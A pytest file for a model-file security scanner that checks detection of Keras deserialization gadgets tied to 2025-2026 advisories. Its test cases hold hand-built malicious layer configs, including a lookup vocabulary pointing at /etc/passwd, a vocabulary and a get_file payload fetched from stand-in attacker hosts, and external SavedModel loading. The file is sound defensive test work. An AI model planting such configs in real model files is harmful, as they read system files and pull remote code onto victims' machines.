"""Keras gadgets inside the keras namespace (2025-2026 advisories); configs written by hand."""

from __future__ import annotations

from typing import Any

import pytest

from petgov.model import Severity
from tests.scanners.test_keras import DENSE, keras_zip, layer, scan, sequential

GADGETS = [
    (  # CVE-2025-12058: a lookup vocabulary that is a file path, read when the layer is built
        "string_lookup_vocabulary_path",
        layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd", "max_tokens": None}),
        "PG-SER-335",
    ),
    (
        "integer_lookup_vocabulary_url",
        layer("IntegerLookup", {"name": "i", "vocabulary": "gs://attacker/vocab.txt"}),
        "PG-SER-335",
    ),
    (  # CVE-2026-1462: TFSMLayer loads an external SavedModel
        "tfsmlayer_external_savedmodel",
        layer("TFSMLayer", {"name": "t", "filepath": "/tmp/evil_savedmodel", "trainable": False}),
        "PG-SER-335",
    ),
    (  # CVE-2025-8747: keras.utils.get_file deserialised as a layer
        "get_file_as_layer",
        layer(
            "get_file",
            {"fname": "x", "origin": "https://attacker.invalid/payload"},
            module="keras.utils",
        ),
        "PG-SER-332",
    ),
    (
        "load_model_as_layer",
        layer("load_model", {"filepath": "/tmp/other.keras"}, module="keras.src.saving"),
        "PG-SER-332",
    ),
]


@pytest.mark.parametrize(("case", "obj", "rule"), GADGETS, ids=[g[0] for g in GADGETS])
def test_keras_namespace_gadget_is_high(case: str, obj: Any, rule: str) -> None:
    found = scan(keras_zip(sequential(DENSE, obj)))
    assert any(r == rule and s >= Severity.HIGH for r, s, _ in found), (case, found)


def test_lookup_with_an_inline_vocabulary_is_clean() -> None:
    objs = [
        layer("StringLookup", {"name": "s", "vocabulary": ["a", "b"], "num_oov_indices": 1}),
        layer("IntegerLookup", {"name": "i", "vocabulary": None}),
        layer("TextVectorization", {"name": "t", "vocabulary": None, "idf_weights": None}),
    ]
    assert scan(keras_zip(sequential(*objs))) == []
